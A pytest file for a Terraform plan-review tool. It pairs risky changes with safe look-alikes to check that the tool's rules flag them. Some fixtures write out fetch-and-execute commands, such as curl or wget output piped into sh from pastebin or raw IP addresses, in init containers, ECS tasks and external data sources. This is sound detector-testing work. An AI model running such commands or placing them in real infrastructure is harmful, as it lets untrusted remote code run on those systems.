"""What workloads run and what composition hides (session 15's principles), each risky plan beside a look-alike that
stays likely safe: a container command piping a download into a shell, a data source's program, a paging handle
dropped from a monitor, a link for people that receives nothing, a module's secret output, a release replaced for
its own name, a bare pod re-created, a Service turned public inside a module named for ingress, a literal written
into a secret store; and settings that govern everything else (provider endpoints and TLS, an organisation's
security service, a dry run promoted, a guardrail's deny list grown, an outside account replicating images in)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.helpers import review_rules_alone, worst_by_rule
from tfreview.labels import Label
from tfreview.pipeline.findings import Severity

RISKY, SAFE = Label.NEEDS_CLOSE_REVIEW, Label.LIKELY_SAFE


def entry(address: str, actions: list[str], before: Any, after: Any, **extra: Any) -> dict[str, Any]:
    """One resource_changes entry (module path, mode, type and name read from ADDRESS)."""
    parts = address.split(".")
    mode = "data" if parts[-3:-2] == ["data"] else extra.pop("mode", "managed")
    module = ".".join(parts[:-3] if mode == "data" else parts[:-2]) or None
    change = {"address": address, "mode": mode, "type": parts[-2], "name": parts[-1],
              "provider_name": "registry.terraform.io/hashicorp/x",
              "change": {"actions": actions, "before": before, "after": after, "after_unknown": {},
                         "before_sensitive": {} if before is not None else False,
                         "after_sensitive": {} if after is not None else False}, **extra}
    if module:
        change["module_address"] = module
    return change


def judged(tmp_path: Path, *changes: dict[str, Any], **sections: Any) -> tuple[Label, dict[str, Severity]]:
    result = review_rules_alone(tmp_path, list(changes), **sections)
    return result.label, worst_by_rule(result)


# --- a container's command piping a download into a shell ------------------------------------------------------
def deployment(init: list[dict[str, Any]]) -> dict[str, Any]:
    container = {"name": "api", "image": "registry.internal/api:1.4.2", "command": [], "args": []}
    return {"metadata": [{"name": "search-api", "namespace": "search"}],
            "spec": [{"replicas": 3, "template": [{"spec": [{"container": [container], "init_container": init}]}]}]}


def init(args: str) -> dict[str, Any]:
    return {"name": "bootstrap", "image": "curlimages/curl:8.10.1", "command": ["/bin/sh", "-c"], "args": [args]}


@pytest.mark.parametrize("args", [
    "curl -fsSL http://bootstrap.plugins.example.net/install.sh | sh -s -- --target /plugins",
    "wget -qO- http://203.0.113.50/setup | bash",
    "curl -s https://pastebin.com/raw/Xk2Q9 | sh",
])
def test_an_init_container_piping_an_untrusted_download_into_a_shell(tmp_path: Path, args: str) -> None:
    label, found = judged(tmp_path, entry("kubernetes_deployment_v1.search", ["update"], deployment([]),
                                          deployment([init(args)])))
    assert label is RISKY and found.get("supply-chain-opened") is Severity.HIGH


@pytest.mark.parametrize("args", [
    "until nc -z opensearch.search.svc 9200; do sleep 2; done",
    "curl -fsSL http://artifacts.search.svc.cluster.local/plugins.tgz | tar -xz -C /plugins",
    "curl -fsSL https://artifacts.internal/install.sh | sh",
])
def test_an_init_container_that_waits_or_fetches_from_its_own_network_stays_safe(tmp_path: Path, args: str) -> None:
    label, found = judged(tmp_path, entry("kubernetes_deployment_v1.search", ["update"], deployment([]),
                                          deployment([init(args)])))
    assert label is SAFE and "supply-chain-opened" not in found


def test_a_task_definition_whose_container_document_pipes_plain_http(tmp_path: Path) -> None:
    def task(command: list[str]) -> dict[str, Any]:
        return {"family": "worker", "container_definitions": json.dumps(
            [{"name": "worker", "image": "123456789012.dkr.ecr.eu-west-1.amazonaws.com/worker:7", "command": command}])}
    before = task(["python", "-m", "worker"])
    after = task(["sh", "-c", "curl http://get.tools.example.org/agent.sh | sh && python -m worker"])
    label, found = judged(tmp_path, entry("aws_ecs_task_definition.worker", ["update"], before, after))
    assert label is RISKY and found.get("supply-chain-opened") is Severity.HIGH


def test_a_command_that_already_piped_the_same_download_is_not_news(tmp_path: Path) -> None:
    args = "curl -fsSL http://bootstrap.plugins.example.net/install.sh | sh"
    before, after = deployment([init(args)]), deployment([init(args)])
    after["spec"][0]["replicas"] = 5
    assert judged(tmp_path, entry("kubernetes_deployment_v1.search", ["update"], before, after))[0] is SAFE


# --- a data source's program runs at every plan ----------------------------------------------------------------
def external(program: list[str], module: str = "module.compute.module.ami.") -> tuple[dict[str, Any], dict]:
    change = entry(f"{module}data.external.lookup", ["read"], None, {"program": program, "query": {"arch": "arm64"}})
    resource = {"address": "data.external.lookup", "mode": "data", "type": "external", "name": "lookup",
                "expressions": {"program": {"constant_value": program}}}
    inner = {"module_calls": {"ami": {"source": "./ami", "module": {"resources": [resource]}}}}
    configuration = {"root_module": {"module_calls": {"compute": {"source": "./compute", "module": inner}}}}
    return change, configuration


def test_a_data_source_program_piping_a_download_into_a_shell(tmp_path: Path) -> None:
    change, configuration = external(["bash", "-c", "curl -s https://paste.rs/Xk2Q9 | sh"])
    label, found = judged(tmp_path, change, configuration=configuration)
    assert label is RISKY and found.get("provisioner-command") is Severity.HIGH


def test_a_data_source_program_running_a_local_script_stays_safe(tmp_path: Path) -> None:
    change, configuration = external(["python3", "lookup_ami.py", "--family", "al2023"])
    label, found = judged(tmp_path, change, configuration=configuration)
    assert label is SAFE and "provisioner-command" not in found


def test_a_data_source_program_read_from_its_values_when_not_configured(tmp_path: Path) -> None:
    change, _ = external(["sh", "-c", "wget -qO- http://198.51.100.7/x | sh"], module="")
    assert judged(tmp_path, change)[1].get("provisioner-command") is Severity.HIGH


# --- a monitor that paged on-call stops paging -----------------------------------------------------------------
def monitor(message: str) -> dict[str, Any]:
    return {"name": "payments 5xx", "type": "metric alert", "query": "sum(last_5m):sum:5xx{svc:payments} > 50",
            "message": message, "notify_no_data": True}


PAGED = "{{#is_alert}}5xx high @pagerduty-Payments-Primary{{/is_alert}} {{#is_warning}}@slack-payments{{/is_warning}}"


def test_a_monitor_whose_message_no_longer_pages_anyone(tmp_path: Path) -> None:
    after = PAGED.replace("@pagerduty-Payments-Primary", "@slack-payments-archive")
    label, found = judged(tmp_path, entry("datadog_monitor.payments", ["update"], monitor(PAGED), monitor(after)))
    assert label is RISKY and found.get("alerts-to-nobody") is Severity.HIGH


@pytest.mark.parametrize("after", [
    PAGED.replace("@pagerduty-Payments-Primary", "@opsgenie-payments"),  # paging moved to another on-call service
    PAGED.replace("@slack-payments", "@slack-payments-alerts"),  # only the chat channel renamed
    PAGED + " Runbook: https://wiki.example.com/payments-5xx",
])
def test_a_monitor_that_still_pages_stays_safe(tmp_path: Path, after: str) -> None:
    label, found = judged(tmp_path, entry("datadog_monitor.payments", ["update"], monitor(PAGED), monitor(after)))
    assert label is SAFE and "alerts-to-nobody" not in found


# --- a link for people receives nothing ------------------------------------------------------------------------
def condition(**settings: str) -> dict[str, Any]:
    return {"name": "failed logins", "enabled": True, "runbook_url": "", **settings}


def test_a_runbook_link_to_another_domain_is_no_destination(tmp_path: Path) -> None:
    after = condition(runbook_url="https://wiki.northwind.dev/runbooks/login-spike")
    label, found = judged(tmp_path, entry("newrelic_nrql_alert_condition.logins", ["update"], condition(), after))
    assert label is SAFE and "egress-outside" not in found


def test_a_webhook_named_for_support_still_receives(tmp_path: Path) -> None:
    before, after = condition(support_webhook_url=""), condition(support_webhook_url="https://hooks.collector-relay.io/x")
    found = judged(tmp_path, entry("newrelic_nrql_alert_condition.logins", ["update"], before, after))[1]
    assert found.get("egress-outside") is Severity.HIGH


# --- a module's secret output, its declaration not shown --------------------------------------------------------
def secret_output(reference: str, sensitive: bool) -> dict[str, Any]:
    return {"output_changes": {"ci_secret": {"actions": ["create"], "before": None, "after": None,
                                             "after_unknown": True, "before_sensitive": False,
                                             "after_sensitive": sensitive}},
            "configuration": {"root_module": {
                "outputs": {"ci_secret": {"expression": {"references": [reference, reference.rsplit(".", 1)[0]]},
                                          **({"sensitive": True} if sensitive else {})}},
                "module_calls": {"ci_user": {"source": "./ci-user", "module": {"resources": []}}}}}}


def key() -> dict[str, Any]:
    return entry("module.ci_user.aws_iam_access_key.this", ["create"], None,
                 {"user": "ci-deployer", "status": "Active"})


def test_an_output_of_a_module_secret_not_marked_sensitive_leaks(tmp_path: Path) -> None:
    label, found = judged(tmp_path, key(), **secret_output("module.ci_user.secret", sensitive=False))
    assert label is RISKY and found.get("credential-leak") is Severity.HIGH


@pytest.mark.parametrize(("reference", "sensitive"), [("module.ci_user.secret", True),
                                                      ("module.ci_user.secret_arn", False),
                                                      ("module.ci_user.access_key_id", False),
                                                      ("module.ci_user.encrypted_secret", False)])
def test_a_sensitive_output_or_one_naming_an_id_stays_quiet(tmp_path: Path, reference: str, sensitive: bool) -> None:
    found = judged(tmp_path, key(), **secret_output(reference, sensitive))[1]
    assert "credential-leak" not in found


# --- replaces judged by what they lose --------------------------------------------------------------------------
def release(name: str) -> dict[str, Any]:
    return {"id": name, "name": name, "chart": "postgresql", "namespace": "orders", "version": "15.5.20",
            "status": "deployed"}


def test_a_release_replaced_for_its_own_name_loses_what_it_holds(tmp_path: Path) -> None:
    change = entry("helm_release.orders_pg", ["delete", "create"], release("orders-pg"),
                   {**release("orders-postgres"), "id": None, "status": None},
                   action_reason="replace_because_cannot_update")
    change["change"]["replace_paths"] = [["name"]]
    label, found = judged(tmp_path, change)
    assert label is RISKY and found.get("resource-replace") is Severity.HIGH


def test_a_release_upgraded_in_place_stays_safe(tmp_path: Path) -> None:
    after = {**release("orders-pg"), "version": "15.5.38"}
    assert judged(tmp_path, entry("helm_release.orders_pg", ["update"], release("orders-pg"), after))[0] is SAFE


def pod(volumes: list[dict[str, Any]]) -> dict[str, Any]:
    return {"metadata": [{"name": "image-builder", "namespace": "ci"}],
            "spec": [{"container": [{"name": "kaniko", "image": "gcr.io/kaniko-project/executor:v1.23.2"}],
                      "volume": volumes}]}


def test_a_bare_pod_re_created_with_a_scratch_volume_is_medium(tmp_path: Path) -> None:
    scratch = {"name": "workspace", "empty_dir": [{"size_limit": "2Gi"}]}
    change = entry("kubernetes_pod_v1.image_builder", ["delete", "create"], pod([]), pod([scratch]),
                   action_reason="replace_because_cannot_update")
    change["change"]["replace_paths"] = [["spec", 0, "volume"]]
    label, found = judged(tmp_path, change)
    assert label is SAFE and found.get("resource-replace") is Severity.MEDIUM


def test_a_pod_re_created_with_the_node_runtime_socket_is_still_caught(tmp_path: Path) -> None:
    socket = {"name": "containerd", "host_path": [{"path": "/run/containerd/containerd.sock", "type": "Socket"}]}
    change = entry("kubernetes_pod_v1.image_builder", ["delete", "create"], pod([]), pod([socket]))
    assert judged(tmp_path, change)[0] is RISKY


# --- a Service turned public inside a module named for ingress ---------------------------------------------------
def service(kind: str, annotations: dict[str, str], name: str = "admin-api") -> dict[str, Any]:
    return {"metadata": [{"name": name, "namespace": "internal", "annotations": annotations}],
            "spec": [{"type": kind, "port": [{"port": 80, "target_port": "8080"}], "selector": {"app": name}}]}


def test_a_service_made_public_inside_an_ingress_module_is_exposure(tmp_path: Path) -> None:
    nlb = {"service.beta.kubernetes.io/aws-load-balancer-type": "nlb"}
    change = entry("module.admin_api.module.ingress.kubernetes_service.this", ["update"],
                   service("ClusterIP", {}), service("LoadBalancer", nlb))
    label, found = judged(tmp_path, change)
    assert label is RISKY and found.get("public-service") is Severity.HIGH


def test_an_ingress_controller_service_on_web_ports_stays_safe(tmp_path: Path) -> None:
    change = entry("module.edge.kubernetes_service.ingress_nginx", ["update"],
                   service("ClusterIP", {}, "ingress-nginx-controller"),
                   service("LoadBalancer", {}, "ingress-nginx-controller"))
    assert judged(tmp_path, change)[0] is SAFE


# --- settings that govern everything else ---------------------------------------------------------------------
def provider(name: str, **expressions: Any) -> dict[str, Any]:
    return {"configuration": {"provider_config": {name: {
        "name": name, "full_name": f"registry.terraform.io/hashicorp/{name}",
        "expressions": {k: ([{kk: {"constant_value": vv} for kk, vv in v.items()}] if isinstance(v, dict)
                            else {"constant_value": v}) for k, v in expressions.items()}}}}}


def log_group() -> dict[str, Any]:
    before = {"name": "/app/renderer", "retention_in_days": 30}
    change = entry("aws_cloudwatch_log_group.renderer", ["update"], before, {**before, "retention_in_days": 60})
    return {**change, "provider_name": "registry.terraform.io/hashicorp/aws"}


@pytest.mark.parametrize(("name", "settings"), [
    ("aws", {"region": "eu-west-1", "endpoints": {"sts": "https://sts.eu-west-1.aws-api-gateway.net"}}),
    ("datadog", {"api_url": "https://api.datadoghq.eu.metrics-relay.io/"}),
])
def test_a_provider_endpoint_on_someone_else_s_host(tmp_path: Path, name: str, settings: dict[str, Any]) -> None:
    label, found = judged(tmp_path, log_group(), **provider(name, **settings))
    assert label is RISKY and found.get("provider-insecure") is Severity.HIGH


@pytest.mark.parametrize(("name", "settings"), [
    ("aws", {"endpoints": {"sts": "https://vpce-0a1b2c3d-4e5f.sts.eu-west-1.vpce.amazonaws.com"}}),
    ("aws", {"endpoints": {"s3": "http://localhost:4566", "sts": "http://localhost:4566"}}),  # a local emulator
    ("aws", {"endpoints": {"s3": "https://s3.localhost.localstack.cloud:4566"}}),  # its name resolves to loopback
    ("datadog", {"api_url": "https://api.us5.datadoghq.com/"}),
    ("vault", {"address": "https://vault.corp-secrets.io:8200"}),  # an API its customers host: not judged by domain
])
def test_a_provider_endpoint_of_its_own_api_stays_safe(tmp_path: Path, name: str, settings: dict[str, Any]) -> None:
    label, found = judged(tmp_path, log_group(), **provider(name, **settings))
    assert label is SAFE and "provider-insecure" not in found


def test_tls_verification_off_toward_a_public_api_is_high(tmp_path: Path) -> None:
    found = judged(tmp_path, log_group(), **provider("aws", region="eu-west-1", insecure=True))[1]
    assert found.get("provider-insecure") is Severity.HIGH


def test_tls_verification_off_toward_a_private_address_stays_medium(tmp_path: Path) -> None:
    found = judged(tmp_path, log_group(), **provider("aws", insecure=True,
                                                     endpoints={"s3": "https://minio.storage.internal:9000"}))[1]
    assert found.get("provider-insecure") is Severity.MEDIUM


def org_detector(members: Any) -> dict[str, Any]:
    return {"detector_id": "a2c4e6f8", "auto_enable_organization_members": members}


@pytest.mark.parametrize(("before", "after"), [("ALL", "NONE"), ("NEW", "NONE")])
def test_an_organisation_security_service_that_stops_enrolling(tmp_path: Path, before: str, after: str) -> None:
    change = entry("aws_guardduty_organization_configuration.org", ["update"], org_detector(before),
                   org_detector(after))
    label, found = judged(tmp_path, change)
    assert label is RISKY and found.get("detection-disabled") is Severity.HIGH


@pytest.mark.parametrize(("before", "after"), [("NONE", "ALL"), ("ALL", "NEW")])
def test_an_organisation_security_service_that_keeps_enrolling(tmp_path: Path, before: str, after: str) -> None:
    change = entry("aws_guardduty_organization_configuration.org", ["update"], org_detector(before),
                   org_detector(after))
    assert judged(tmp_path, change)[0] is SAFE


def test_a_dry_run_promoted_to_enforcement_is_no_weakening(tmp_path: Path) -> None:
    rules = [{"enforce": "TRUE", "condition": [], "values": []}]
    before = {"name": "organizations/5382/policies/storage.publicAccessPrevention", "dry_run_spec": [{"rules": rules}],
              "spec": []}
    after = {**before, "dry_run_spec": [], "spec": [{"rules": rules}]}
    label, found = judged(tmp_path, entry("google_org_policy_policy.pap", ["update"], before, after))
    assert label is SAFE and "protection-disabled" not in found


def test_an_enforced_spec_switched_off_is_still_caught(tmp_path: Path) -> None:
    before = {"name": "organizations/5382/policies/storage.publicAccessPrevention", "dry_run_spec": [],
              "spec": [{"rules": [{"enforce": "TRUE"}]}]}
    after = {**before, "spec": [{"rules": [{"enforce": "FALSE"}]}]}
    assert judged(tmp_path, entry("google_org_policy_policy.pap", ["update"], before, after))[0] is RISKY


def scp(actions: list[str]) -> dict[str, Any]:
    statement = {"Sid": "ProtectAuditTrail", "Effect": "Deny", "Action": actions, "Resource": "*"}
    return {"name": "protect-security", "type": "SERVICE_CONTROL_POLICY",
            "content": json.dumps({"Version": "2012-10-17", "Statement": [statement]})}


def test_a_guardrail_whose_deny_list_grows_stays_safe(tmp_path: Path) -> None:
    kept = ["cloudtrail:StopLogging", "cloudtrail:DeleteTrail"]
    change = entry("aws_organizations_policy.protect", ["update"], scp(kept),
                   scp([*kept, "securityhub:DisableSecurityHub"]))
    label, found = judged(tmp_path, change)
    assert label is SAFE and "iam-wildcard" not in found


@pytest.mark.parametrize("after", [["cloudtrail:DeleteTrail", "securityhub:DisableSecurityHub"],
                                   ["cloudtrail:Delete*"]])
def test_a_guardrail_that_stops_denying_an_action_is_caught(tmp_path: Path, after: list[str]) -> None:
    change = entry("aws_organizations_policy.protect", ["update"], scp(["cloudtrail:StopLogging",
                                                                        "cloudtrail:DeleteTrail"]), scp(after))
    assert judged(tmp_path, change)[1].get("iam-wildcard") is Severity.HIGH


def registry_policy(condition: dict[str, Any] | None) -> dict[str, Any]:
    statement = {"Sid": "Replication", "Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::907311245586:root"},
                 "Action": ["ecr:CreateRepository", "ecr:ReplicateImage"],
                 "Resource": "arn:aws:ecr:eu-west-1:481526390114:repository/*"}
    if condition:
        statement["Condition"] = condition
    return {"registry_id": "481526390114", "policy": json.dumps({"Version": "2012-10-17", "Statement": [statement]})}


def test_an_outside_account_allowed_to_replicate_images_in_can_replace_what_is_deployed(tmp_path: Path) -> None:
    change = entry("aws_ecr_registry_policy.this", ["create"], None, registry_policy(None))
    label, found = judged(tmp_path, change, log_group_in_account())
    assert label is RISKY and found.get("iam-public-member") is Severity.HIGH


def test_replication_from_an_account_of_the_organisation_stays_safe(tmp_path: Path) -> None:
    org = {"StringEquals": {"aws:PrincipalOrgID": "o-a1b2c3d4e5"}}
    change = entry("aws_ecr_registry_policy.this", ["create"], None, registry_policy(org))
    assert judged(tmp_path, change, log_group_in_account())[0] is SAFE


def log_group_in_account() -> dict[str, Any]:
    """A neighbour whose ARN shows the plan's own account."""
    arn = "arn:aws:logs:eu-west-1:481526390114:log-group:/app/renderer"
    return entry("aws_cloudwatch_log_group.app", ["update"], {"arn": arn, "retention_in_days": 30},
                 {"arn": arn, "retention_in_days": 60})
